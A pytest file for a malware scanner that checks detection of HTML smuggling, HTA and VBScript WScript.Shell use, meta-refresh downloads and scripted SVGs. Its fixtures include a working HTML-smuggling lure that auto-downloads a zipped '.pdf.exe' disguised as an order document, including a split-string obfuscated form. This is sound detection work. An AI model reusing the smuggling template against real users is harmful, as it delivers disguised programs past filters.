"""HTML, SVG, HTA and XML pages: smuggling, scripts that run programs, automatic redirects,
scripted pictures. Pages are written here as text (plus ClamAV's clam.exe.html); scripts
are never run; addresses use reserved names."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest
from _docs import finding_at, reason_is_node_with_hash
from conftest import CLAM_EXE_SHA256, node_named, rules_of


def _zip_with(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def test_clamav_program_in_data_link_is_found_by_hash(scan, clam_testfiles):
    report = scan((clam_testfiles / "clam.exe.html").read_bytes(), "clam.exe.html")
    assert any(node.sha256 == CLAM_EXE_SHA256 for node in report.tree.walk() if node.depth)
    assert reason_is_node_with_hash(report, CLAM_EXE_SHA256)


def _smuggling_page(payload: bytes, split: bool = False) -> str:
    encoded = base64.b64encode(payload).decode()
    literal = f'"{encoded}"'
    if split:  # the common obfuscation: the string cut into pieces joined with +
        literal = " +\n    ".join(f'"{encoded[i:i + 80]}"' for i in range(0, len(encoded), 80))
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>订单</title></head><body>
<p>正在下载您的订单文件……</p>
<script>
  var data = {literal};
  var bytes = atob(data);
  var array = new Uint8Array(bytes.length);
  for (var i = 0; i < bytes.length; i++) {{ array[i] = bytes.charCodeAt(i); }}
  var blob = new Blob([array], {{type: "application/zip"}});
  var link = document.createElement("a");
  link.href = URL.createObjectURL(blob);
  link.download = "订单详情.zip";
  document.body.appendChild(link);
  link.click();
</script></body></html>"""


@pytest.mark.parametrize("split", [False, True])
def test_html_smuggling_of_a_zip_with_a_program(scan, pe_bytes, split):
    page = _smuggling_page(_zip_with("订单详情.pdf.exe", pe_bytes), split=split)
    report = scan(page.encode(), "订单.html")
    assert "html.smuggling" in rules_of(report)
    archive = node_named(report, "订单详情.zip")
    assert archive.kind == "zip"
    assert node_named(report, "订单详情.pdf.exe").kind == "pe"
    assert report.verdict.value == "malicious"


def test_download_attribute_with_data_link(scan, pe_bytes):
    encoded = base64.b64encode(_zip_with("a.exe", pe_bytes)).decode()
    page = f'<html><body><a href="data:application/octet-stream;base64,{encoded}" download="报价单.zip">下载</a></body></html>'
    report = scan(page.encode(), "报价单.html")
    assert node_named(report, "报价单.zip").kind == "zip"
    assert "type.executable" in rules_of(report)


def test_inline_pictures_are_not_children(scan):
    png = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\x00" * 200)
    page = f'<html><body><img src="data:image/png;base64,{png.decode()}"><p>Hello</p></body></html>'
    report = scan(page.encode(), "page.html")
    assert not report.tree.children
    assert report.verdict.value == "clean"


def test_hta_style_script_in_a_web_page(scan):
    page = """<html><head><script language="VBScript">
Set shell = CreateObject("WScript.Shell")
' shell.Run "cmd.exe /c echo TEST-ONLY", 0
</script></head><body></body></html>"""
    report = scan(page.encode(), "说明.html")
    assert "WScript.Shell" in finding_at(report, "html.runs_programs")[0].message
    assert report.verdict.value == "malicious"


def test_hta_application(scan):
    hta = b'<html><head><hta:application windowstate="minimize"/><script>// new ActiveXObject("WScript.Shell") TEST-ONLY</script></head></html>'
    report = scan(hta, "a.hta")
    assert {"type.script", "html.runs_programs"} <= rules_of(report)


def test_windows_words_in_visible_text_are_not_code(scan):
    page = "<html><body><p>Open Shell.Application settings or WScript.Shell docs.</p></body></html>"
    assert "html.runs_programs" not in rules_of(scan(page.encode(), "faq.html"))


def test_meta_refresh_to_a_download(scan):
    page = '<html><head><meta http-equiv="refresh" content="0; url=https://files.example.invalid/订单.zip"></head></html>'
    report = scan(page.encode(), "订单.html")
    assert "订单.zip" in finding_at(report, "html.refresh_download")[0].message
    assert report.verdict.value == "malicious"


def test_meta_refresh_to_a_page_is_a_low_note(scan):
    page = '<html><head><meta http-equiv="refresh" content="5;URL=\'https://shop.example.com/\'"></head></html>'
    report = scan(page.encode(), "跳转.html")
    assert "html.redirect" in rules_of(report) and report.verdict.value == "clean"


def test_svg_with_script(scan):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>location="https://example.invalid/"</script></svg>'
    report = scan(svg, "logo.svg")
    assert "svg.script" in rules_of(report) and report.verdict.value == "suspicious"
    handler = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://example.invalid\')"><rect width="1" height="1"/></svg>'
    assert "svg.script" in rules_of(scan(handler, "logo2.svg"))


def test_plain_svg_is_clean(scan):
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
           b'width="100" height="100"><a xlink:href="https://shop.example.com/"><circle cx="50" cy="50" r="40" '
           b'fill="red"/></a></svg>')
    report = scan(svg, "logo.svg")
    assert report.verdict.value == "clean", [finding.rule for finding in report.findings]
    assert any(item["value"] == "https://shop.example.com/" for item in report.indicators)


def test_page_with_links_only_is_clean(scan):
    page = ('<!DOCTYPE html><html><body><h1>商品目录</h1><a href="https://shop.example.com/item/1">连衣裙</a>'
            '<img src="https://img.example.com/1.jpg"></body></html>')
    report = scan(page.encode(), "目录.html")
    assert report.verdict.value == "clean" and not report.findings
    assert {"https://shop.example.com/item/1", "https://img.example.com/1.jpg"} <= {
        item["value"] for item in report.indicators}


def test_page_with_ordinary_script_is_noted_but_clean(scan):
    page = '<html><head><script>document.title = "订单 " + new Date().getFullYear();</script></head><body></body></html>'
    report = scan(page.encode(), "订单.html")
    assert "html.script" in rules_of(report) and report.verdict.value == "clean"
